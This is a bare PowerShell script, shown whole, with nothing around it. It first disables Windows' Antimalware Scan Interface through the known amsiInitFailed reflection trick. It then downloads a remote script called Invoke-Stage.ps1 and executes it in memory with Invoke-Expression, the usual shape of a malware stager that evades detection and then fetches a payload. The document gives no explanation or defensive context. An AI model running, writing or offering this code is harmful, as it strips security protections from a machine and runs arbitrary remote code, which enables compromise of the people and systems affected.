[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed', 'NonPublic,Static').SetValue($null, $true)

$url = 'https://raw.example.net/tools/Invoke-Stage.ps1'
$code = (New-Object Net.WebClient).DownloadString($url)
Invoke-Expression $code
